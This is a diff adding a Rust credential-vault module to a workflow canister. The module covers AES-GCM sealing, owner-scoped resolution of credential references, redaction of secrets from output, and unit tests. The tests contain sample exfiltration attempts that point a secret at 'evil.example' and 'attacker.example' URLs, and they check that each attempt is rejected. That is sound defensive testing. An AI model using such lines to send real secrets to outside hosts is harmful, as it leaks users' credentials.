@@ -0,0 +1,701 @@
+// Credential vault.
+//
+// Users save secrets under an id and reference them from node configuration as
+// `{{credential:id}}`, or name them in an `auth_credential` parameter. References are
+// resolved when a node runs, from the vault of the workflow's owner, and only in nodes
+// of the credential's integration type. Resolved secrets are redacted from the node's
+// output and errors before either is recorded or passed downstream, so they never reach
+// `NodeExecution` records.
+//
+// Secrets are sealed with AES-256-GCM under a key derived per owner from the current
+// vault key. Vault keys are drawn from the management canister's `raw_rand` and never
+// leave stable memory; `rotate_vault_key` re-seals every secret under a fresh key.
+// Saved OAuth tokens are sealed the same way, under an `oauth:<principal>` owner.
+//
+// Threat model: the vault keeps secrets from callers (no endpoint returns one), from
+// copies of single records (exports, logs, migrations) and from ciphertexts swapped
+// between slots. It also keeps them from the workflow's editors: references resolve only
+// in authentication fields, never in URLs, queries or bodies, and only in revisions the
+// owner saved, so an editor cannot point a secret at a server of their choosing; redaction
+// cleans what is recorded, not what is sent. The vault key is stored in the same stable
+// memory as the ciphertexts, so it does not protect against anyone who can read all of
+// that memory: the subnet's node providers, or a controller installing code that reads
+// the key. Keeping the key out of canister state needs vetKeys, which this canister does
+// not use yet.
+
+use crate::storage;
+use crate::types::{ConfigValue, CredentialInfo, ExecutionContext, NodeError, NodeOutput, OAuthToken, StoredCredential, VaultKey, WorkflowNode};
+use aes_gcm::aead::{Aead, KeyInit, Payload};
+use aes_gcm::{Aes256Gcm, Key, Nonce};
+use candid::Principal;
+use hmac::{Hmac, Mac};
+use ic_cdk::{api, caller, query, update};
+use sha2::Sha256;
+use std::borrow::Cow;
+
+pub const MAX_SECRET_BYTES: usize = 4096;
+const MIN_SECRET_CHARS: usize = 4;
+const MAX_CREDENTIALS_PER_OWNER: usize = 100;
+const REFERENCE_START: &str = "{{";
+const REFERENCE_PREFIX: &str = "credential:";
+const REFERENCE_END: &str = "}}";
+const REDACTED: &str = "[REDACTED]";
+// Parameters holding a bare credential id rather than a `{{credential:id}}` reference
+const CREDENTIAL_ID_PARAMETERS: &[&str] = &["auth_credential"];
+// Parameters and request headers (of a `headers` object) where references may appear
+const SECRET_PARAMETERS: &[&str] = &["access_token", "api_key", "auth_token", "bot_token"];
+const SECRET_HEADERS: &[&str] = &["authorization", "proxy-authorization", "x-api-key", "api-key", "x-auth-token"];
+
+// =============================================================================
+// SEALING
+// =============================================================================
+
+fn owner_cipher(vault_key: &VaultKey, owner: &str) -> Result<Aes256Gcm, String> {
+    let mut mac = <Hmac<Sha256> as Mac>::new_from_slice(&vault_key.key)
+        .map_err(|_| "Invalid vault key".to_string())?;
+    mac.update(b"deflow-credential-vault:");
+    mac.update(owner.as_bytes());
+    let derived = mac.finalize().into_bytes();
+    Ok(Aes256Gcm::new(Key::<Aes256Gcm>::from_slice(&derived)))
+}
+
+// Binds a ciphertext to its slot, so sealed secrets cannot be swapped between credentials
+fn associated_data(owner: &str, id: &str) -> Vec<u8> {
+    format!("{}/{}", owner, id).into_bytes()
+}
+
+/// Encrypt `secret` into `credential`, consuming a nonce of `vault_key`.
+fn seal(vault_key: &mut VaultKey, credential: &mut StoredCredential, secret: &str) -> Result<(), String> {
+    vault_key.nonces_used += 1;
+    let mut nonce = [0u8; 12];
+    nonce[4..].copy_from_slice(&vault_key.nonces_used.to_be_bytes());
+
+    let aad = associated_data(&credential.owner, &credential.id);
+    credential.ciphertext = owner_cipher(vault_key, &credential.owner)?
+        .encrypt(Nonce::from_slice(&nonce), Payload { msg: secret.as_bytes(), aad: &aad })
+        .map_err(|_| "Failed to encrypt credential".to_string())?;
+    credential.nonce = nonce.to_vec();
+    credential.key_version = vault_key.version;
+    Ok(())
+}
+
+fn open(vault_key: &VaultKey, credential: &StoredCredential) -> Result<String, String> {
+    if credential.nonce.len() != 12 {
+        return Err(format!("Credential '{}' is corrupted", credential.id));
+    }
+    let aad = associated_data(&credential.owner, &credential.id);
+    let plaintext = owner_cipher(vault_key, &credential.owner)?
+        .decrypt(Nonce::from_slice(&credential.nonce), Payload { msg: &credential.ciphertext, aad: &aad })
+        .map_err(|_| format!("Credential '{}' could not be decrypted", credential.id))?;
+    String::from_utf8(plaintext).map_err(|_| format!("Credential '{}' is corrupted", credential.id))
+}
+
+fn reveal(credential: &StoredCredential) -> Result<String, String> {
+    let vault_key = storage::get_vault_key(credential.key_version)
+        .ok_or_else(|| format!("Vault key {} of credential '{}' is missing", credential.key_version, credential.id))?;
+    open(&vault_key, credential)
+}
+
+/// Seal `secret` under the current vault key and store the credential.
+fn store_sealed(mut credential: StoredCredential, secret: &str) -> Result<StoredCredential, String> {
+    let mut vault_key = storage::current_vault_key()
+        .ok_or_else(|| "The credential vault has no key yet".to_string())?;
+    seal(&mut vault_key, &mut credential, secret)?;
+    storage::insert_vault_key(vault_key);
+    storage::insert_credential(credential.clone());
+    Ok(credential)
+}
+
+async fn random_key() -> Result<Vec<u8>, String> {
+    let (bytes,) = ic_cdk::api::management_canister::main::raw_rand().await
+        .map_err(|(code, message)| format!("Failed to generate a vault key: {:?} - {}", code, message))?;
+    Ok(bytes)
+}
+
+/// The key is kept in stable memory next to the ciphertexts; see the threat model above.
+fn install_vault_key(key: Vec<u8>, now: u64) -> u32 {
+    let version = storage::current_vault_key().map_or(1, |current| current.version + 1);
+    storage::insert_vault_key(VaultKey { version, key, nonces_used: 0, created_at: now });
+    version
+}
+
+pub async fn ensure_vault_key() -> Result<(), String> {
+    if storage::current_vault_key().is_none() {
+        let key = random_key().await?;
+        // Another message may have installed a key while this one waited for randomness
+        if storage::current_vault_key().is_none() {
+            install_vault_key(key, api::time());
+        }
+    }
+    Ok(())
+}
+
+/// Re-seal every credential under the current vault key and drop the keys no longer used.
+fn reseal_all() -> Result<usize, String> {
+    let current = storage::current_vault_key()
+        .ok_or_else(|| "The credential vault has no key yet".to_string())?;
+    let mut resealed = 0;
+    for credential in storage::list_all_credentials() {
+        if credential.key_version != current.version {
+            let secret = reveal(&credential)?;
+            store_sealed(credential, &secret)?;
+            resealed += 1;
+        }
+    }
+    for version in 1..current.version {
+        storage::remove_vault_key(version);
+    }
+    Ok(resealed)
+}
+
+/// Seal a secret the canister itself uses. `owner` must not be a principal, so node
+/// configuration can never reference it.
+pub fn store_internal_secret(owner: &str, id: &str, secret: &str, now: u64) -> Result<(), String> {
+    validate_secret(secret)?;
+    store_internal(owner, id, secret, now)
+}
+
+fn store_internal(owner: &str, id: &str, secret: &str, now: u64) -> Result<(), String> {
+    let credential = match storage::get_credential(owner, id) {
+        Some(existing) => StoredCredential { version: existing.version + 1, rotated_at: Some(now), ..existing },
+        None => StoredCredential {
+            id: id.to_string(),
+            owner: owner.to_string(),
+            integration_type: owner.to_string(),
+            version: 1,
+            created_at: now,
+            ..StoredCredential::default()
+        },
+    };
+    store_sealed(credential, secret).map(|_| ())
+}
+
+pub fn internal_secret(owner: &str, id: &str) -> Result<Option<String>, String> {
+    storage::get_credential(owner, id).map(|credential| reveal(&credential)).transpose()
+}
+
+// =============================================================================
+// OAUTH TOKENS
+// =============================================================================
+
+fn oauth_owner(principal: &str) -> String {
+    format!("oauth:{}", principal)
+}
+
+fn store_oauth_secret(owner: &str, id: &str, secret: Option<&str>, now: u64) -> Result<bool, String> {
+    match secret.filter(|secret| !secret.is_empty()) {
+        Some(secret) => store_internal(owner, id, secret, now).map(|_| true),
+        None => {
+            storage::remove_credential(owner, id);
+            Ok(false)
+        }
+    }
+}
+
+/// `token` with its access and refresh tokens moved into the vault. The returned record
+/// keeps them empty; a sealed refresh token is marked by `Some("")`.
+pub fn seal_oauth_token(principal: &str, token: OAuthToken, now: u64) -> Result<OAuthToken, String> {
+    let owner = oauth_owner(principal);
+    store_oauth_secret(&owner, &format!("{}:access", token.platform), Some(&token.access_token), now)?;
+    let has_refresh = store_oauth_secret(&owner, &format!("{}:refresh", token.platform), token.refresh_token.as_deref(), now)?;
+    Ok(OAuthToken {
+        access_token: String::new(),
+        refresh_token: has_refresh.then(String::new),
+        ..token
+    })
+}
+
+/// Whether `token` still holds its secrets in plaintext, as records saved before sealing do.
+pub fn is_plaintext_oauth_token(token: &OAuthToken) -> bool {
+    !token.access_token.is_empty() || token.refresh_token.as_deref().is_some_and(|refresh| !refresh.is_empty())
+}
+
+/// `token` with the secrets sealed by `seal_oauth_token` restored.
+pub fn open_oauth_token(principal: &str, token: OAuthToken) -> Result<OAuthToken, String> {
+    if is_plaintext_oauth_token(&token) {
+        return Ok(token);
+    }
+    let owner = oauth_owner(principal);
+    let access_token = internal_secret(&owner, &format!("{}:access", token.platform))?.unwrap_or_default();
+    let refresh_token = match token.refresh_token {
+        Some(_) => internal_secret(&owner, &format!("{}:refresh", token.platform))?,
+        None => None,
+    };
+    Ok(OAuthToken { access_token, refresh_token, ..token })
+}
+
+// =============================================================================
+// RESOLUTION AND REDACTION
+// =============================================================================
+
+/// Whether a credential saved for `integration_type` may be used by a node of `node_type`.
+pub fn usable_by(integration_type: &str, node_type: &str) -> bool {
+    integration_type == node_type || (integration_type == "http" && matches!(node_type, "http_request" | "webhook"))
+}
+
+/// Principal whose secrets a node may use: the owner of the workflow being run.
+pub fn workflow_owner(context: &ExecutionContext) -> Option<String> {
+    storage::get_workflow(&context.workflow_id).and_then(|workflow| workflow.owner)
+}
+
+/// Fails unless the revision the run executes was saved by `owner`, whose secrets it would use.
+pub fn check_owner_revision(context: &ExecutionContext, owner: &str) -> Result<(), String> {
+    let Some(workflow) = storage::get_workflow(&context.workflow_id) else {
+        return Ok(());
+    };
+    let revision = storage::get_execution(&context.execution_id)
+        .and_then(|execution| execution.workflow_revision)
+        .or(workflow.revision);
+    // Workflows saved before revisions existed were only ever saved by their owner
+    let Some(revision) = revision else {
+        return Ok(());
+    };
+    let author = storage::get_workflow_revision(&context.workflow_id, revision).map(|snapshot| snapshot.author);
+    if author.as_deref() != Some(owner) {
+        return Err(format!(
+            "Revision {} of this workflow was not saved by its owner, so it cannot use the owner's credentials; the owner must save it",
+            revision
+        ));
+    }
+    Ok(())
+}
+
+/// The parameter, or header, of `name` holding a reference where secrets may not go.
+fn misplaced_reference(name: &str, value: &ConfigValue) -> Option<String> {
+    match value {
+        _ if SECRET_PARAMETERS.contains(&name) => None,
+        ConfigValue::Object(headers) if name == "headers" => headers.iter()
+            .find(|(header, value)| has_reference(value) && !SECRET_HEADERS.contains(&header.to_lowercase().as_str()))
+            .map(|(header, _)| format!("headers.{}", header)),
+        value if has_reference(value) => Some(name.to_string()),
+        _ => None,
+    }
+}
+
+/// Byte range and id of the first `{{credential:id}}` in `text`; spaces inside the braces are allowed.
+fn next_reference(text: &str) -> Option<(usize, usize, &str)> {
+    let mut offset = 0;
+    while let Some(open) = text[offset..].find(REFERENCE_START) {
+        let start = offset + open;
+        let inner_start = start + REFERENCE_START.len();
+        let close = text[inner_start..].find(REFERENCE_END)?;
+        let inner = text[inner_start..inner_start + close].trim();
+        if let Some(id) = inner.strip_prefix(REFERENCE_PREFIX) {
+            return Some((start, inner_start + close + REFERENCE_END.len(), id.trim()));
+        }
+        offset = inner_start;
+    }
+    None
+}
+
+/// Replace every `{{credential:id}}` in `text` with `lookup(id)`.
+fn substitute(text: &str, lookup: &mut impl FnMut(&str) -> Result<String, String>) -> Result<String, String> {
+    let mut resolved = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some((start, end, id)) = next_reference(rest) {
+        resolved.push_str(&rest[..start]);
+        resolved.push_str(&lookup(id)?);
+        rest = &rest[end..];
+    }
+    resolved.push_str(rest);
+    Ok(resolved)
+}
+
+fn resolve_value(value: &ConfigValue, lookup: &mut impl FnMut(&str) -> Result<String, String>) -> Result<ConfigValue, String> {
+    Ok(match value {
+        ConfigValue::String(text) if next_reference(text).is_some() => ConfigValue::String(substitute(text, lookup)?),
+        ConfigValue::Array(items) => ConfigValue::Array(
+            items.iter().map(|item| resolve_value(item, lookup)).collect::<Result<_, _>>()?
+        ),
+        ConfigValue::Object(fields) => ConfigValue::Object(
+            fields.iter()
+                .map(|(key, item)| Ok((key.clone(), resolve_value(item, lookup)?)))
+                .collect::<Result<_, String>>()?
+        ),
+        other => other.clone(),
+    })
+}
+
+fn has_reference(value: &ConfigValue) -> bool {
+    match value {
+        ConfigValue::String(text) => next_reference(text).is_some(),
+        ConfigValue::Array(items) => items.iter().any(has_reference),
+        ConfigValue::Object(fields) => fields.values().any(has_reference),
+        _ => false,
+    }
+}
+
+/// `node` with its credential references resolved, and the secrets that were substituted.
+pub fn resolve_node<'a>(node: &'a WorkflowNode, context: &ExecutionContext) -> Result<(Cow<'a, WorkflowNode>, Vec<String>), String> {
+    let names_credential = |name: &str| {
+        CREDENTIAL_ID_PARAMETERS.contains(&name) && matches!(node.configuration.parameters.get(name), Some(ConfigValue::String(id)) if !id.trim().is_empty())
+    };
+    if !node.configuration.parameters.values().any(has_reference) && !CREDENTIAL_ID_PARAMETERS.iter().any(|name| names_credential(name)) {
+        return Ok((Cow::Borrowed(node), Vec::new()));
+    }
+    if let Some(field) = node.configuration.parameters.iter().find_map(|(name, value)| misplaced_reference(name, value)) {
+        return Err(format!("Credential references are only resolved in authentication fields, not in '{}'", field));
+    }
+    let owner = workflow_owner(context)
+        .ok_or_else(|| "Credentials can only be used by workflows with an owner".to_string())?;
+    check_owner_revision(context, &owner)?;
+
+    let mut secrets = Vec::new();
+    let mut lookup = |id: &str| -> Result<String, String> {
+        let mut credential = storage::get_credential(&owner, id)
+            .ok_or_else(|| format!("Credential '{}' not found in the workflow owner's vault", id))?;
+        if !usable_by(&credential.integration_type, &node.node_type) {
+            return Err(format!(
+                "Credential '{}' is for {} and cannot be used by a {} node",
+                id, credential.integration_type, node.node_type
+            ));
+        }
+        let secret = reveal(&credential)?;
+        credential.last_used_at = Some(context.timestamp);
+        storage::insert_credential(credential);
+        secrets.push(secret.clone());
+        Ok(secret)
+    };
+
+    let mut resolved = node.clone();
+    for (name, value) in resolved.configuration.parameters.iter_mut() {
+        *value = match &*value {
+            ConfigValue::String(id) if names_credential(name) => ConfigValue::String(lookup(id.trim())?),
+            other => resolve_value(other, &mut lookup)?,
+        };
+    }
+    Ok((Cow::Owned(resolved), secrets))
+}
+
+pub fn redact_text(text: &str, secrets: &[String]) -> String {
+    secrets.iter().fold(text.to_string(), |text, secret| text.replace(secret.as_str(), REDACTED))
+}
+
+fn redact_value(value: &mut ConfigValue, secrets: &[String]) {
+    match value {
+        ConfigValue::String(text) => *text = redact_text(text, secrets),
+        ConfigValue::Array(items) => items.iter_mut().for_each(|item| redact_value(item, secrets)),
+        ConfigValue::Object(fields) => fields.values_mut().for_each(|item| redact_value(item, secrets)),
+        _ => {}
+    }
+}
+
+/// Strip resolved secrets from a node's output or error before it is recorded.
+pub fn redact_result(result: Result<NodeOutput, NodeError>, secrets: &[String]) -> Result<NodeOutput, NodeError> {
+    if secrets.is_empty() {
+        return result;
+    }
+    match result {
+        Ok(mut output) => {
+            output.data.values_mut().for_each(|value| redact_value(value, secrets));
+            Ok(output)
+        }
+        Err(error) => Err(error.map_message(|message| redact_text(&message, secrets))),
+    }
+}
+
+// =============================================================================
+// API
+// =============================================================================
+
+fn authenticated_caller() -> Result<String, String> {
+    let caller = caller();
+    if caller == Principal::anonymous() {
+        return Err("Anonymous callers cannot store credentials".to_string());
+    }
+    Ok(caller.to_text())
+}
+
+fn validate_name(kind: &str, name: &str) -> Result<(), String> {
+    let valid = !name.is_empty() && name.len() <= 64
+        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
+    if !valid {
+        return Err(format!("{} must be 1-64 letters, digits, '_' or '-'", kind));
+    }
+    Ok(())
+}
+
+fn validate_secret(secret: &str) -> Result<(), String> {
+    if secret.chars().count() < MIN_SECRET_CHARS || secret.len() > MAX_SECRET_BYTES {
+        return Err(format!("Secrets must be {} characters to {} bytes long", MIN_SECRET_CHARS, MAX_SECRET_BYTES));
+    }
+    Ok(())
+}
+
+fn info(credential: StoredCredential) -> CredentialInfo {
+    CredentialInfo {
+        id: credential.id,
+        integration_type: credential.integration_type,
+        version: credential.version,
+        created_at: credential.created_at,
+        rotated_at: credential.rotated_at,
+        last_used_at: credential.last_used_at,
+    }
+}
+
+fn create_credential(owner: String, id: String, integration_type: String, secret: &str, now: u64) -> Result<CredentialInfo, String> {
+    validate_name("Credential ids", &id)?;
+    validate_name("Integration types", &integration_type)?;
+    validate_secret(secret)?;
+    if storage::get_credential(&owner, &id).is_some() {
+        return Err(format!("Credential '{}' already exists; rotate it to change the secret", id));
+    }
+    if storage::list_credentials(&owner).len() >= MAX_CREDENTIALS_PER_OWNER {
+        return Err(format!("At most {} credentials per user", MAX_CREDENTIALS_PER_OWNER));
+    }
+
+    let credential = StoredCredential {
+        id,
+        owner,
+        integration_type: integration_type.to_lowercase(),
+        version: 1,
+        created_at: now,
+        ..StoredCredential::default()
+    };
+    store_sealed(credential, secret).map(info)
+}
+
+fn replace_secret(owner: &str, id: &str, secret: &str, now: u64) -> Result<CredentialInfo, String> {
+    validate_secret(secret)?;
+    let mut credential = storage::get_credential(owner, id)
+        .ok_or_else(|| format!("Credential '{}' not found", id))?;
+    credential.version += 1;
+    credential.rotated_at = Some(now);
+    store_sealed(credential, secret).map(info)
+}
+
+/// Save a secret to the caller's vault; reference it in node configuration as `{{credential:<id>}}`.
+#[update]
+pub async fn save_credential(id: String, integration_type: String, secret: String) -> Result<CredentialInfo, String> {
+    let owner = authenticated_caller()?;
+    ensure_vault_key().await?;
+    create_credential(owner, id, integration_type, &secret, api::time())
+}
+
+/// Replace the secret of a credential; workflows referencing it use the new value from their next run.
+#[update]
+pub async fn rotate_credential(id: String, secret: String) -> Result<CredentialInfo, String> {
+    let owner = authenticated_caller()?;
+    ensure_vault_key().await?;
+    replace_secret(&owner, &id, &secret, api::time())
+}
+
+#[update]
+pub fn delete_credential(id: String) -> Result<(), String> {
+    let owner = authenticated_caller()?;
+    storage::remove_credential(&owner, &id)
+        .map(|_| ())
+        .ok_or_else(|| format!("Credential '{}' not found", id))
+}
+
+#[query]
+pub fn list_credentials() -> Vec<CredentialInfo> {
+    storage::list_credentials(&caller().to_text()).into_iter().map(info).collect()
+}
+
+/// Generate a new vault key and re-seal every credential under it. Returns the number re-sealed.
+#[update]
+pub async fn rotate_vault_key() -> Result<u32, String> {
+    if !api::is_controller(&caller()) {
+        return Err("Only controllers can rotate the vault key".to_string());
+    }
+    let key = random_key().await?;
+    install_vault_key(key, api::time());
+    reseal_all().map(|count| count as u32)
+}
+
+#[cfg(test)]
+pub(crate) fn install_test_vault_key() {
+    if storage::current_vault_key().is_none() {
+        install_vault_key(vec![7u8; 32], 0);
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::types::{NodeConfiguration, Workflow};
+    use std::collections::HashMap;
+
+    const OWNER: &str = "owner-principal";
+
+    fn context(workflow_id: &str) -> ExecutionContext {
+        ExecutionContext {
+            workflow_id: workflow_id.to_string(),
+            execution_id: "exec".to_string(),
+            user_id: "runner-principal".to_string(),
+            timestamp: 77,
+            global_variables: HashMap::new(),
+        }
+    }
+
+    fn node(node_type: &str, parameters: Vec<(&str, ConfigValue)>) -> WorkflowNode {
+        WorkflowNode {
+            node_type: node_type.to_string(),
+            configuration: NodeConfiguration {
+                parameters: parameters.into_iter().map(|(k, v)| (k.to_string(), v)).collect(),
+            },
+            ..WorkflowNode::default()
+        }
+    }
+
+    fn text(value: &str) -> ConfigValue {
+        ConfigValue::String(value.to_string())
+    }
+
+    fn setup_vault() {
+        install_vault_key(vec![7u8; 32], 1);
+        let workflow = Workflow { id: "wf".to_string(), owner: Some(OWNER.to_string()), ..Workflow::default() };
+        storage::insert_workflow(workflow.id.clone(), workflow);
+    }
+
+    #[test]
+    fn test_secrets_are_sealed_and_bound_to_their_slot() {
+        setup_vault();
+        create_credential(OWNER.to_string(), "tg".to_string(), "telegram".to_string(), "123:secret-token", 1).unwrap();
+
+        let stored = storage::get_credential(OWNER, "tg").unwrap();
+        assert!(!stored.ciphertext.windows(6).any(|w| w == b"secret"));
+        assert_eq!(reveal(&stored).unwrap(), "123:secret-token");
+
+        // The same ciphertext under another owner or id does not decrypt
+        let moved = StoredCredential { owner: "someone-else".to_string(), ..stored.clone() };
+        assert!(reveal(&moved).is_err());
+        let renamed = StoredCredential { id: "other".to_string(), ..stored };
+        assert!(reveal(&renamed).is_err());
+
+        assert!(create_credential(OWNER.to_string(), "tg".to_string(), "telegram".to_string(), "again", 2).is_err());
+        assert!(create_credential(OWNER.to_string(), "bad id".to_string(), "telegram".to_string(), "secret", 2).is_err());
+    }
+
+    #[test]
+    fn test_references_resolve_from_the_owner_vault_for_matching_nodes() {
+        setup_vault();
+        create_credential(OWNER.to_string(), "tg".to_string(), "telegram".to_string(), "123:secret-token", 1).unwrap();
+        create_credential(OWNER.to_string(), "api".to_string(), "http".to_string(), "key-abc", 1).unwrap();
+
+        let telegram = node("telegram", vec![("bot_token", text("{{credential:tg}}")), ("chat_id", text("42"))]);
+        let (resolved, secrets) = resolve_node(&telegram, &context("wf")).unwrap();
+        assert!(matches!(resolved.configuration.parameters.get("bot_token"), Some(ConfigValue::String(t)) if t == "123:secret-token"));
+        assert_eq!(secrets, vec!["123:secret-token".to_string()]);
+        assert_eq!(storage::get_credential(OWNER, "tg").unwrap().last_used_at, Some(77));
+
+        let headers = ConfigValue::Object(HashMap::from([("Authorization".to_string(), text("Bearer {{ credential:api }}"))]));
+        let request = node("http_request", vec![("headers", headers)]);
+        let (resolved, _) = resolve_node(&request, &context("wf")).unwrap();
+        let resolved_headers = match resolved.configuration.parameters.get("headers") {
+            Some(ConfigValue::Object(headers)) => headers.clone(),
+            other => panic!("headers: {:?}", other),
+        };
+        assert!(matches!(resolved_headers.get("Authorization"), Some(ConfigValue::String(h)) if h == "Bearer key-abc"));
+
+        // A telegram token cannot be sent somewhere else by a webhook node
+        let auth = ConfigValue::Object(HashMap::from([("Authorization".to_string(), text("{{credential:tg}}"))]));
+        let exfiltrate = node("webhook", vec![("url", text("https://evil.example/")), ("headers", auth)]);
+        assert!(resolve_node(&exfiltrate, &context("wf")).unwrap_err().contains("cannot be used by a webhook node"));
+        assert!(resolve_node(&telegram, &context("missing")).is_err());
+
+        let plain = node("telegram", vec![("chat_id", text("42"))]);
+        assert!(matches!(resolve_node(&plain, &context("missing")), Ok((Cow::Borrowed(_), ref s)) if s.is_empty()));
+    }
+
+    #[test]
+    fn test_references_resolve_only_in_auth_fields_of_owner_saved_revisions() {
+        use crate::types::WorkflowRevision;
+        setup_vault();
+        create_credential(OWNER.to_string(), "api".to_string(), "http".to_string(), "key-abc", 1).unwrap();
+
+        // URLs, bodies and other headers would send the secret wherever an editor points them
+        let in_url = node("http_request", vec![("url", text("https://attacker.example/?k={{credential:api}}"))]);
+        assert!(resolve_node(&in_url, &context("wf")).unwrap_err().contains("not in 'url'"));
+        let in_body = node("webhook", vec![("body", ConfigValue::Object(HashMap::from([("k".to_string(), text("{{credential:api}}"))])))]);
+        assert!(resolve_node(&in_body, &context("wf")).unwrap_err().contains("not in 'body'"));
+        let echo = ConfigValue::Object(HashMap::from([("X-Echo".to_string(), text("{{credential:api}}"))]));
+        let in_header = node("http_request", vec![("headers", echo)]);
+        assert!(resolve_node(&in_header, &context("wf")).unwrap_err().contains("not in 'headers.X-Echo'"));
+
+        let by_id = node("http_request", vec![("url", text("https://api.example.com")), ("auth_credential", text("api"))]);
+        let mut workflow = storage::get_workflow("wf").unwrap();
+        for (revision, author) in [(1, OWNER), (2, "editor-principal")] {
+            storage::insert_workflow_revision(WorkflowRevision {
+                workflow_id: "wf".to_string(),
+                revision,
+                workflow: workflow.clone(),
+                author: author.to_string(),
+                created_at: revision,
+                rolled_back_from: None,
+            });
+        }
+        workflow.revision = Some(1);
+        storage::insert_workflow("wf".to_string(), workflow.clone());
+        assert!(resolve_node(&by_id, &context("wf")).is_ok());
+
+        // Until the owner saves an editor's change, it runs without the owner's secrets
+        workflow.revision = Some(2);
+        storage::insert_workflow("wf".to_string(), workflow);
+        assert!(resolve_node(&by_id, &context("wf")).unwrap_err().contains("was not saved by its owner"));
+    }
+
+    #[test]
+    fn test_rotation_and_redaction() {
+        setup_vault();
+        create_credential(OWNER.to_string(), "tg".to_string(), "telegram".to_string(), "old-secret", 1).unwrap();
+        let rotated = replace_secret(OWNER, "tg", "new-secret", 5).unwrap();
+        assert_eq!((rotated.version, rotated.rotated_at), (2, Some(5)));
+        assert_eq!(reveal(&storage::get_credential(OWNER, "tg").unwrap()).unwrap(), "new-secret");
+
+        // A new vault key re-seals every credential and retires the old key
+        install_vault_key(vec![9u8; 32], 6);
+        assert_eq!(reseal_all().unwrap(), 1);
+        let resealed = storage::get_credential(OWNER, "tg").unwrap();
+        assert_eq!(resealed.key_version, 2);
+        assert!(storage::get_vault_key(1).is_none());
+        assert_eq!(reveal(&resealed).unwrap(), "new-secret");
+
+        let secrets = vec!["new-secret".to_string()];
+        let output = NodeOutput {
+            data: HashMap::from([("echo".to_string(), ConfigValue::Array(vec![text("token=new-secret")]))]),
+            next_nodes: Vec::new(),
+        };
+        let redacted = redact_result(Ok(output), &secrets).unwrap();
+        assert!(matches!(redacted.data.get("echo"), Some(ConfigValue::Array(items)) if matches!(&items[0], ConfigValue::String(s) if s == "token=[REDACTED]")));
+        let error = redact_result(Err(NodeError::NetworkError("bad token new-secret".to_string())), &secrets).unwrap_err();
+        assert_eq!((error.class(), error.to_string().as_str()), ("NetworkError", "bad token [REDACTED]"));
+    }
+
+    #[test]
+    fn test_saved_oauth_tokens_are_sealed() {
+        use crate::stable_user_storage;
+        setup_vault();
+        let token = OAuthToken {
+            user_principal: OWNER.to_string(),
+            platform: "twitter".to_string(),
+            access_token: "access-secret".to_string(),
+            refresh_token: Some("refresh-secret".to_string()),
+            expires_at: 0,
+            scopes: Vec::new(),
+        };
+        stable_user_storage::insert_oauth_token(OWNER.to_string(), "twitter".to_string(), token.clone(), 1).unwrap();
+
+        let stored = stable_user_storage::OAUTH_TOKENS.with(|tokens| tokens.borrow().get(&format!("{}:twitter", OWNER))).unwrap().0;
+        assert_eq!((stored.access_token.as_str(), stored.refresh_token.as_deref()), ("", Some("")));
+        let opened = stable_user_storage::get_oauth_token(OWNER, "twitter").unwrap().unwrap();
+        assert_eq!((opened.access_token.as_str(), opened.refresh_token.as_deref()), ("access-secret", Some("refresh-secret")));
+
+        // Dropping the refresh token removes its sealed copy
+        let revoked = OAuthToken { refresh_token: None, ..opened };
+        stable_user_storage::insert_oauth_token(OWNER.to_string(), "twitter".to_string(), revoked, 2).unwrap();
+        assert!(storage::get_credential(&oauth_owner(OWNER), "twitter:refresh").is_none());
+        assert_eq!(stable_user_storage::get_oauth_token(OWNER, "twitter").unwrap().unwrap().refresh_token, None);
+
+        // Records saved in plaintext before sealing still read, and are sealed in place
+        stable_user_storage::OAUTH_TOKENS.with(|tokens| {
+            tokens.borrow_mut().insert(format!("{}:legacy", OWNER), stable_user_storage::StorableOAuthToken(OAuthToken { platform: "legacy".to_string(), ..token }))
+        });
+        assert_eq!(stable_user_storage::get_oauth_token(OWNER, "legacy").unwrap().unwrap().access_token, "access-secret");
+        assert_eq!(stable_user_storage::seal_plaintext_oauth_tokens(3).unwrap(), 1);
+        let sealed = stable_user_storage::OAUTH_TOKENS.with(|tokens| tokens.borrow().get(&format!("{}:legacy", OWNER))).unwrap().0;
+        assert!(!is_plaintext_oauth_token(&sealed));
+        assert_eq!(stable_user_storage::get_oauth_token(OWNER, "legacy").unwrap().unwrap().refresh_token.as_deref(), Some("refresh-secret"));
+    }
+}